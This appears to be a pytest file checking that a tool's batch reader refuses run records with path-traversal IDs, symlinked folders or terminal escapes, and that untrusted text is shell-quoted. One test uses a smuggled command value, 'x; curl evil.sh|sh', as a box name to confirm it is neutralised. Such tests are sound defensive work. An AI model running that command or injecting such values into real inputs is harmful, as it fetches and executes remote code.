"""What somebody else's files may do: be read, or be refused in one line. They steer no path, no terminal and no shell."""

import json
import shutil
import subprocess

import pytest
from command_line import verb
from hypothesis import given
from hypothesis import strategies as st

from helpers.batch.record import RecordUnreadable, read_batch, read_run
from helpers.ground.shell import word

ONE_LINE = 600
"""Characters that a complaint may have: a screen's worth, also of a file that names 200,000 things."""


def a_batch(folder, name="001-x", **fields):
    """A batch with a run's folder called ``name``, whose record says what a stranger wants."""
    (folder / name).mkdir(parents=True)
    (folder / name / "harmless.txt").write_text("a file of the run")
    said = {"run_id": name, "batch_id": folder.name, "box": "", "notebook": "x.ipynb", **fields}
    (folder / name / "run.json").write_text(json.dumps({"schema_version": 2, **said}))
    return folder


def files_below(folder):
    return {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}


@pytest.mark.parametrize("field", ["run_id", "batch_id"])
@pytest.mark.parametrize(
    "name", ["/absolute/place", "../victim", "a/../../victim", "..", ".", "", "\x1b[2J", "n" * 300]
)
def test_an_id_that_is_no_folders_name_makes_a_record_unreadable(tmp_path, field, name):
    batch = a_batch(tmp_path / "b", **{field: name})
    with pytest.raises(RecordUnreadable) as refused:
        read_run(batch / "001-x" / "run.json")
    assert len(str(refused.value)) < ONE_LINE
    assert read_batch(batch).runs == ()


def test_a_run_is_its_folders_and_a_folder_that_is_a_link_is_no_run(tmp_path):
    batch = a_batch(tmp_path / "b", run_id="002-y")
    with pytest.raises(RecordUnreadable, match="is the record of 002-y"):
        read_run(batch / "001-x" / "run.json")
    honest = a_batch(tmp_path / "c")
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "001-x").symlink_to(honest / "001-x")
    assert [run.run_id for run in read_batch(honest).runs] == ["001-x"]
    assert read_batch(tmp_path / "d").runs == ()


def test_pages_and_answers_about_a_strangers_batch_are_written_into_it_alone(tmp_path):
    batch = a_batch(tmp_path / "b", batch_id="/home/me/", run_id="../../victim")
    (tmp_path / "victim").mkdir()
    before = files_below(tmp_path)
    status = verb("status", batch)
    assert status.code == 1 and "not readable" in status.out and "../../victim\n" not in status.out
    assert verb("report", batch).code == 0
    verb("share", batch, "--out", tmp_path / "shared.html")
    assert files_below(tmp_path) - before <= {"b/index.html", "shared.html"}


@pytest.mark.skipif(shutil.which("bash") is None, reason="no bash here")
@given(text=st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=12))
def test_whatever_others_wrote_is_one_word_in_one_line_and_a_shell_reads_it_back(text):
    assert word(text).isprintable()
    script = f"LC_ALL=C.UTF-8; printf '%s' {word(text)}"
    done = subprocess.run(["bash", "-c", script], capture_output=True, check=True)
    assert done.stdout == text.encode()


def test_a_boxs_name_is_one_word_of_the_step_that_names_it(tmp_path):
    about = {
        "box": "x; curl evil.sh|sh",
        "captured_at": "now",
        "kind": "recorded",
        "tool_version": "0",
    }
    (tmp_path / "manifest.json").write_text(json.dumps({**about, "items": [], "schema_version": 1}))
    said = verb("diagnose", tmp_path, "--json").out
    assert (
        "diagnose 'x; curl evil.sh|sh'" in said
        or "x; curl" not in json.loads(said)["next_step"]["command"]
    )
